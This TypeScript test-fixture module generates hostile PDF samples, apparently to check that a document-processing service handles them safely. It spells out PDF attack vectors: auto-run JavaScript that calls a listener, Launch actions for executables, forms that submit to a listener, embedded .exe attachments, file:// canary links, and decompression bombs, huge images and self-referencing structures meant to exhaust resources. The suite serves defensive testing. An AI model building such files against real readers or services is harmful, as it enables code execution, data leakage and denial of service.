import { deflateSync } from 'node:zlib';
import { zlibZeros } from './bytes.ts';
import { made } from './pictures.ts';
import { page, pdf, type PdfObject } from './pdf.ts';
import { ANY, BROKEN, PAYLOAD, type Bases, type Expected, type Hostile, type Targets } from './types.ts';

/** PDFs that run, fetch, hide, or never end. */
export function pdfs(bases: Bases, { listener, canary }: Targets): Hostile[] {
  const [catalog, pages] = page('');
  const plain = 'q 0 0 1 rg 50 50 200 150 re f Q';
  const doc = (options: Parameters<typeof page>[1], ...more: readonly PdfObject[]): Buffer =>
    pdf([...page(plain, options), ...more]);
  const drawn = (content: string, resources: string, ...more: readonly PdfObject[]): Buffer =>
    pdf([
      catalog ?? '',
      pages ?? '',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Resources << ${resources} >> >>`,
      { dict: '', data: content },
      ...more,
    ]);
  const link = (action: string): Buffer =>
    doc({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A << ${action} >> >>]` });
  const annotation = (text: string, ...more: readonly PdfObject[]): Buffer =>
    doc({ page: `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${text} >>]` }, ...more);
  const forms = (count: number, each: (i: number) => string): PdfObject[] =>
    Array.from({ length: count }, (_, i) => ({
      dict: `/Type /XObject /Subtype /Form /BBox [0 0 400 300] /Resources << /XObject << /F ${i + 6} 0 R >> >>`,
      data: each(i),
    }));
  const jpeg = bases.get('jpeg') ?? Buffer.alloc(0);
  const image = (dict: string, data: Uint8Array): Buffer =>
    drawn('400 0 0 300 0 0 cm /I Do', '/XObject << /I 5 0 R >>', {
      dict: `/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 ${dict}`,
      data,
    });
  const manyPages = (count: number): Buffer =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${Array.from({ length: count }, (_, i) => `${i + 3} 0 R`).join(' ')}] /Count ${count} >>`,
      ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] >>'),
    ]);
  const locked =
    '/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <' +
    '41'.repeat(32) +
    '> /U <' +
    '42'.repeat(32) +
    '> >> /ID [<41> <41>]';
  const deep = '['.repeat(50_000) + ']'.repeat(50_000);
  const all: readonly (readonly [about: string, bytes: Buffer, expected: readonly Expected[]])[] = [
    [
      'a script',
      doc({
        catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${listener}"\\); // ${PAYLOAD}) >>`,
      }),
      ['ready'],
    ],
    [
      'scripts by name',
      doc({ catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${PAYLOAD}) >>] >> >>` }),
      ['ready'],
    ],
    ['a program to launch', doc({ catalog: `/OpenAction << /S /Launch /F (${PAYLOAD}.exe) >>` }), ['ready']],
    ['a program to launch behind a link', link(`/S /Launch /Win << /F (${PAYLOAD}.exe) >>`), ['ready']],
    ['a link to another file', link(`/S /GoToR /F (${PAYLOAD}.pdf) /D [0 /Fit]`), ['ready']],
    ['a link into an attachment', link(`/S /GoToE /T << /R /C /N (${PAYLOAD}) >>`), ['ready']],
    ['a link to this machine', link(`/S /URI /URI (file://${canary})`), ['ready']],
    [
      'a form that sends itself',
      link(`/S /SubmitForm /F << /FS /URL /F (${listener}/${PAYLOAD}) >>`),
      ['ready'],
    ],
    ['data to import', link(`/S /ImportData /F (${PAYLOAD})`), ['ready']],
    [
      'actions in a chain',
      link(`/S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (${PAYLOAD}) >>`),
      ['ready'],
    ],
    [
      'an action when its page is shown',
      doc({ page: `/AA << /O << /S /JavaScript /JS (${PAYLOAD}) >> >>` }),
      ['ready'],
    ],
    ['a form with a script', doc({ catalog: `/AcroForm << /Fields [] /XFA (${PAYLOAD}) >>` }), ['ready']],
    [
      'an attachment',
      doc(
        {
          catalog:
            '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>',
        },
        { dict: '/Type /EmbeddedFile', data: PAYLOAD },
      ),
      ['ready'],
    ],
    [
      'an attachment in a note',
      annotation('/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 5 0 R >> >>', {
        dict: '/Type /EmbeddedFile',
        data: PAYLOAD,
      }),
      ['ready'],
    ],
    [
      'a film',
      annotation(
        `/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(${PAYLOAD}) 5 0 R] >> >>`,
        'null',
      ),
      ['ready'],
    ],
    [
      'metadata',
      doc(
        { catalog: '/Metadata 5 0 R' },
        { dict: '/Type /Metadata /Subtype /XML', data: `<x>${PAYLOAD}</x>` },
      ),
      ['ready'],
    ],
    ['a note of its author', annotation(`/Subtype /Text /Contents (${PAYLOAD}) /T (${PAYLOAD})`), ['ready']],
    ['what nothing leads to', doc({}, `(${PAYLOAD})`), ['ready']],
    [
      'its content in another file',
      pdf([...page(plain).slice(0, 3), { dict: `/F (${canary}) /FFilter /FlateDecode`, data: '' }]),
      ['ready'],
    ],
    [
      'its content at an address',
      pdf([...page(plain).slice(0, 3), { dict: `/F << /FS /URL /F (${listener}/a) >>`, data: '' }]),
      ['ready'],
    ],
    [
      'a form from another file',
      drawn('/F Do', '/XObject << /F 5 0 R >>', {
        dict: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${canary}) /Page 0 >>`,
        data: '',
      }),
      ['ready'],
    ],
    [
      'a picture with a secret',
      image('/Width 400 /Height 300 /Filter /DCTDecode', Buffer.concat([jpeg, Buffer.from(PAYLOAD)])),
      ['ready'],
    ],
    ['a password', pdf(page(plain), locked), ['asset.protected']],
    [
      'an unknown lock',
      pdf(page(plain), '/Encrypt << /Filter /Toasoan /V 9 >> /ID [<41> <41>]'),
      ['asset.protected', 'asset.broken'],
    ],
    [
      'pages that are their own parents',
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']),
      ANY,
    ],
    [
      'a hundred million pages',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] >>',
      ]),
      ANY,
    ],
    [
      'minus one page',
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count -1 >>']),
      BROKEN,
    ],
    ['no pages', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), BROKEN],
    ['4000 pages', manyPages(4_000), ['ready']],
    ['no catalogue', pdf(['null']), BROKEN],
    ['a page of 10⁹ points', doc({ box: '0 0 1000000000 1000000000' }), ANY],
    ['a page of nothing', doc({ box: '0 0 0 0' }), ANY],
    ['a page turned inside out', doc({ box: '400 300 0 0' }), ANY],
    ['a page of no numbers', doc({ box: 'null null (a) /b' }), ANY],
    ['a page like a needle', doc({ box: '0 0 1 14400' }), ANY],
    ['a content of 500 MB in 500 kB', pdf([...page('').slice(0, 3), zeros(8)]), ANY],
    ['a content packed five times', pdf([...page('').slice(0, 3), fivefold()]), ANY],
    [
      'objects of 300 MB in 300 kB',
      pdf([...page(plain), zeros(5, '/Type /ObjStm /N 1000000 /First 10')]),
      ANY,
    ],
    [
      'a picture of 30000 × 30000',
      image('/Width 30000 /Height 30000 /Filter /FlateDecode', deflateSync(Buffer.alloc(900 * 1_000, 0))),
      ANY,
    ],
    ['a picture of 2³¹ × 2³¹', image('/Width 2147483647 /Height 2147483647', Buffer.alloc(100)), ANY],
    [
      'a picture of 20000 × 20000 that is there',
      image('/Width 20000 /Height 20000 /Filter /FlateDecode', zlibZeros(6)),
      ANY,
    ],
    [
      'a form in a form in a form…',
      drawn('/F Do', '/XObject << /F 5 0 R >>', ...forms(3_000, () => '/F Do')),
      ANY,
    ],
    [
      'a form that draws itself',
      drawn('/F Do', '/XObject << /F 5 0 R >>', {
        dict: '/Type /XObject /Subtype /Form /BBox [0 0 400 300] /Resources << /XObject << /F 5 0 R >> >>',
        data: '/F Do /F Do',
      }),
      ANY,
    ],
    [
      'forms that multiply',
      drawn('/F Do', '/XObject << /F 5 0 R >>', ...forms(12, () => '/F Do '.repeat(10))),
      ANY,
    ],
    [
      'patterns in patterns',
      drawn('/Pattern cs /P scn 0 0 400 300 re f', '/Pattern << /P 5 0 R >>', {
        dict: '/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 4 /YStep 4 /Resources << /Pattern << /P 5 0 R >> >>',
        data: '/Pattern cs /P scn 0 0 9 9 re f',
      }),
      ANY,
    ],
    ['thirty thousand curves', drawn(`${'0 0 m 1 2 3 4 400 300 c S\n'.repeat(30_000)}`, ''), ANY],
    [
      'lists fifty thousand deep',
      pdf([`<< /Type /Catalog /Pages 2 0 R /X ${deep} >>`, ...page(plain).slice(1)]),
      ANY,
    ],
    [
      'a list of contents in itself',
      pdf([
        ...page(plain).slice(0, 2),
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R >>',
        '[4 0 R 4 0 R]',
      ]),
      ANY,
    ],
    [
      'a length that refers to itself',
      pdf([...page(plain).slice(0, 3), '<< /Length 4 0 R >>\nstream\nx\nendstream']),
      ANY,
    ],
    [
      'a table of contents that is its own last',
      Buffer.from(
        pdf(page(plain), '/Prev 9')
          .toString('latin1')
          .replace('/Prev 9', `/Prev ${pdf(page(plain)).lastIndexOf('xref\n0')}`),
        'latin1',
      ),
      ANY,
    ],
    [
      'a table of contents of 4 billion lines',
      Buffer.from(pdf(page(plain)).toString('latin1').replace('xref\n0 5', 'xref\n0 4294967295'), 'latin1'),
      ANY,
    ],
    ['nothing but its header', Buffer.from('%PDF-1.7\n%%EOF\n'), BROKEN],
    [
      'a header behind a printer job',
      Buffer.concat([Buffer.from('\x1b%-12345X@PJL JOB\r\n'), pdf(page(plain))]),
      ANY,
    ],
    [
      'a version 9.9',
      Buffer.from(pdf(page(plain)).toString('latin1').replace('%PDF-1.7', '%PDF-9.9'), 'latin1'),
      ANY,
    ],
  ];
  return all.map(([about, bytes, expected], i) =>
    made(`PDF with ${about}`, `document-${i}.pdf`, bytes, expected),
  );
}

/** Zeros packed so that they are what they are, however many. */
const zeros = (blocks: number, dict = ''): PdfObject => ({
  dict: `${dict} /Filter /FlateDecode`,
  data: zlibZeros(blocks),
});

function fivefold(): PdfObject {
  let data = zlibZeros(16);
  for (let level = 1; level < 5; level += 1) data = deflateSync(data, { level: 9 });
  return { dict: `/Filter [${'/FlateDecode '.repeat(5)}]`, data };
}
